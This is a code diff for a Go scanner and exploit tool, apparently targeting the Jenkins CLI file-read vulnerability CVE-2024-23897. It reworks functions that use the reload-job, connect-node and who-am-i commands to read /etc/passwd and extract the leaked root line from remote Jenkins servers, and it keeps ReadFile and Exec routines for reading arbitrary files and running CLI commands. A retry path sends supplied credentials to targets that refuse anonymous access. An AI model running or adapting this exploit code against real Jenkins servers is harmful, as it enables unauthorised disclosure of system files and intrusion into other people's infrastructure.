@@ -1,16 +1,71 @@
 package scanner
 
 import (
-	"bytes"
-	"encoding/binary"
-	"fmt"
+	"context"
 	"github.com/wjlin0/CVE-2024-23897/pkg/input"
+	"github.com/wjlin0/CVE-2024-23897/pkg/jenkinsparse"
 	"github.com/wjlin0/CVE-2024-23897/pkg/output"
-	"regexp"
+	"github.com/wjlin0/CVE-2024-23897/pkg/protocol"
 	"strings"
 )
 
-func (s *Scanner) Check(target *input.Target) (vul bool, readFullFile bool, result *output.ResultEvent) {
+// permissionDenied is answered by jenkins to anonymous users lacking the Overall/Read permission
+const permissionDenied = "anonymous is missing the Overall/Read permission"
+
+// isDenied reports whether the exchange was refused to anonymous users
+func isDenied(result *output.ResultEvent) bool {
+	return result != nil && strings.Contains(result.Response, permissionDenied)
+}
+
+// DetailLeakedLine is the result detail holding the /etc/passwd line leaked by the check
+const DetailLeakedLine = "leaked-line"
+
+// leakedLine returns the root entry of the leaked /etc/passwd
+func leakedLine(response string) string {
+	for _, entry := range jenkinsparse.ParsePasswd(jenkinsparse.LeakedContent([]byte(response))) {
+		if entry.UID == 0 && entry.Name == "root" {
+			return entry.String()
+		}
+	}
+	for _, line := range strings.Split(response, "\n") {
+		if i := strings.Index(line, "root:x:0:0:"); i >= 0 {
+			return strings.TrimSpace(line[i:])
+		}
+	}
+	return ""
+}
+
+func (s *Scanner) Check(ctx context.Context, target *input.Target) (vul bool, readFullFile bool, result *output.ResultEvent) {
+	vul, readFullFile, result, _ = s.check(ctx, target)
+	return
+}
+
+// check is Check returning the error of the who-am-i exchange when it got no protocol response.
+// Targets refusing anonymous users are checked again with the credentials if any, the result of
+// a target still refusing them has the VerdictAuthRequired verdict
+func (s *Scanner) check(ctx context.Context, target *input.Target) (vul bool, readFullFile bool, result *output.ResultEvent, err error) {
+	strategy := StrategyFor(target)
+	vul, readFullFile, result, denied, err := s.checkWith(ctx, target, strategy)
+	if vul || !denied || ctx.Err() != nil {
+		return vul, readFullFile, result, err
+	}
+	// 匿名用户没有权限, 提供了凭据时使用凭据确认
+	if authorization := s.authorizationFor(target); authorization != "" {
+		vul, readFullFile, authResult, _, _ := s.checkWith(ctx, target, strategy.authenticated(authorization))
+		if vul {
+			authResult.Verdict = VerdictAuthConfirmed
+			return vul, readFullFile, authResult, nil
+		}
+	}
+	result = output.NewResultEvent(target)
+	result.Mode = output.ModeCheck
+	result.Verdict = VerdictAuthRequired
+	return false, false, result, nil
+}
+
+// checkWith runs the exchanges of the check with the strategy, denied reports whether a command
+// was refused because anonymous users lack the Overall/Read permission
+func (s *Scanner) checkWith(ctx context.Context, target *input.Target, strategy Strategy) (vul bool, readFullFile bool, result *output.ResultEvent, denied bool, err error) {
 
 	result = output.NewResultEvent(target)
 	result.Mode = output.ModeCheck
@@ -18,22 +73,26 @@ func (s *Scanner) Check(target *input.Target) (vul bool, readFullFile bool, resu
 	// 提取 可用命令
 
 	// 检查是否可以读取全部文件
-	result3 := s.Exploit(target, output.ModeReadFile, "/etc/passwd", "reload-job")
-	if result3 != nil && result3.Response != "" && !strings.Contains(result3.Response, "anonymous is missing the Overall/Read permission") {
+	result3, _ := s.exploit(ctx, target, strategy, output.ModeReadFile, "/etc/passwd", "reload-job")
+	denied = denied || isDenied(result3)
+	if result3 != nil && result3.Response != "" && !isDenied(result3) {
 		if strings.Contains(result3.Response, "root:x:0:0:") {
 			readFullFile = true
 			vul = true
 			result.Response = "reload-job"
+			result.Details = map[string]string{DetailLeakedLine: leakedLine(result3.Response)}
 		}
 	}
 
 	// 检查是否可以读取全部文件
-	result4 := s.Exploit(target, output.ModeReadFile, "/etc/passwd", "connect-node")
-	if result4 != nil && result4.Response != "" && !strings.Contains(result4.Response, "anonymous is missing the Overall/Read permission") {
+	result4, _ := s.exploit(ctx, target, strategy, output.ModeReadFile, "/etc/passwd", "connect-node")
+	denied = denied || isDenied(result4)
+	if result4 != nil && result4.Response != "" && !isDenied(result4) {
 		if strings.Contains(result4.Response, "root:x:0:0:") {
 			readFullFile = true
 			vul = true
 			result.Response = "connect-node"
+			result.Details = map[string]string{DetailLeakedLine: leakedLine(result4.Response)}
 		}
 	}
 
@@ -43,86 +102,36 @@ func (s *Scanner) Check(target *input.Target) (vul bool, readFullFile bool, resu
 
 	// 检查是否存在漏洞
 
-	result2 := s.Exploit(target, output.ModeReadFile, "/etc/passwd", "who-am-i")
+	result2, err := s.exploit(ctx, target, strategy, output.ModeReadFile, "/etc/passwd", "who-am-i")
+	denied = denied || isDenied(result2)
 	if result2 == nil || result2.Response == "" {
-		return false, false, nil
+		return false, false, nil, denied, err
 	}
 	if strings.Contains(result2.Response, "root:x:0:0:") {
 		vul = true
 		result.Response = "who-am-i"
+		result.Details = map[string]string{DetailLeakedLine: leakedLine(result2.Response)}
 	}
 
 	return
 }
 
-func (s *Scanner) ListAvailableCommands(target *input.Target) (commands []string, result *output.ResultEvent) {
-	result = s.Exploit(target, output.ModeExec, "", "help")
+func (s *Scanner) ListAvailableCommands(ctx context.Context, target *input.Target) (commands []string, result *output.ResultEvent) {
+	result = s.Exploit(ctx, target, output.ModeExec, "", "help")
 	if result != nil && result.URL != "" {
 		// 提取 可用命令
 		commands = extractAvailableCommands(result.Response)
+		result.Mode = output.ModeListAvailableCommands
 	}
-	result.Mode = output.ModeListAvailableCommands
 	return
 }
 
-func (s *Scanner) ReadFile(target *input.Target, command string, filename string) (result *output.ResultEvent) {
-	result = s.Exploit(target, output.ModeReadFile, filename, command)
+func (s *Scanner) ReadFile(ctx context.Context, target *input.Target, command string, filename string) (result *output.ResultEvent) {
+	result = s.Exploit(ctx, target, output.ModeReadFile, filename, command)
 	if result == nil {
 		return
 	}
-	parseData := []byte(result.Response)
-	switch command {
-	case "who-am-i":
-		rg := whoamiCommandRegexData.FindStringSubmatch(string(parseData))
-		if len(rg) > 1 {
-			parseData = []byte(rg[1])
-		}
-
-	case "help":
-
-		rg := helpCommandRegexData.FindStringSubmatch(string(parseData))
-		if len(rg) > 1 {
-			parseData = []byte(rg[1])
-		}
-	case "version":
-		rg := versionCommandRegexData.FindStringSubmatch(string(parseData))
-		if len(rg) > 1 {
-			parseData = []byte(rg[1])
-		}
-
-	case "reload-job":
-
-		matches := reloadJobCommandRegexData.FindAllSubmatch(parseData, -1)
-
-		if len(matches) > 0 {
-			parseData = []byte{}
-			for _, match := range matches {
-				for _, group := range match[1:] {
-					if len(group) > 0 {
-						parseData = append(parseData, group...)
-						parseData = append(parseData, []byte("\n")...)
-					}
-				}
-			}
-			parseData = bytes.TrimSuffix(parseData, []byte("\n"))
-		}
-	case "connect-node":
-		matches := connectNodeCommandRegexData.FindAllSubmatch(parseData, -1)
-
-		if len(matches) > 0 {
-			parseData = []byte{}
-			for _, match := range matches {
-				for _, group := range match[1:] {
-					if len(group) > 0 {
-						parseData = append(parseData, group...)
-						parseData = append(parseData, []byte("\n")...)
-					}
-				}
-			}
-			parseData = bytes.TrimSuffix(parseData, []byte("\n"))
-		}
-	}
-
+	parseData := protocol.ExtractFile(command, []byte(result.Response))
 	result.Response = string(parseData)
 
 	result.Mode = output.ModeReadFile
@@ -130,8 +139,8 @@ func (s *Scanner) ReadFile(target *input.Target, command string, filename string
 	return
 }
 
-func (s *Scanner) Exec(target *input.Target, command string, args string) (result *output.ResultEvent) {
-	result = s.Exploit(target, output.ModeExec, args, command)
+func (s *Scanner) Exec(ctx context.Context, target *input.Target, command string, args string) (result *output.ResultEvent) {
+	result = s.Exploit(ctx, target, output.ModeExec, args, command)
 	if result == nil {
 		return
 	}
@@ -141,53 +150,9 @@ func (s *Scanner) Exec(target *input.Target, command string, args string) (resul
 }
 
 func extractAvailableCommands(body string) (commands []string) {
-	// TODO
-	bodys := strings.Split(body, "\n")
-	for _, line := range bodys {
-		if strings.HasPrefix(line, "  ") && !strings.HasPrefix(line, "    ") {
-			commands = append(commands, strings.TrimSpace(line))
-		}
-	}
-	return
+	return protocol.ExtractAvailableCommands(body)
 }
 
-var whoamiCommandRegexData = regexp.MustCompile(`ERROR: (?:No argument is allowed: )? ?((?:No such file: )?.*)\njava -jar jenkins-cli.jar who-am-i`)
-var helpCommandRegexData = regexp.MustCompile(`ERROR: (?:Too many arguments: )?((?:No such file: )?.*)\njava -jar jenkins-cli.jar help`)
-
-var reloadJobCommandRegexData = regexp.MustCompile(`ERROR: (.*)\njava -jar jenkins-cli.jar reload-job|No such item \x3f(.*?)\x3f `)
-var versionCommandRegexData = regexp.MustCompile(`ERROR: (?:No argument is allowed: )? ?((?:No such file: )?.*)\njava -jar jenkins-cli.jar version`)
-var connectNodeCommandRegexData = regexp.MustCompile(`ERROR: (.*)\njava -jar jenkins-cli.jar connect-node|No such agent "(.*?)" `)
-
 func parseResponseData(Mode output.Mode, command string, data []byte) ([]byte, error) {
-	// TODO
-	var f = func(data []byte) ([]byte, error) {
-		var datas []byte
-		if len(data) < 7 {
-			return nil, fmt.Errorf("invalid length: %d", len(data))
-		}
-		for len(data) >= 7 {
-			if string(data[:7]) == "\x00\x00\x00\x04\x04\x00\x00" {
-				break
-			}
-
-			data = data[2:]
-			lengthBytes := data[:2]
-
-			// 将 lengthBytes 转换为 10 进制
-			length := binary.BigEndian.Uint16(lengthBytes)
-			if int(length)+3 > len(data) {
-				return nil, fmt.Errorf("invalid length: exceeds available data")
-			}
-
-			datas = append(datas, data[3:3+length]...)
-			data = data[3+length:]
-		}
-		return datas, nil
-	}
-	parseData, err := f(data)
-	if err != nil {
-		return nil, err
-	}
-
-	return parseData, nil
+	return protocol.ParseFrames(data)
 }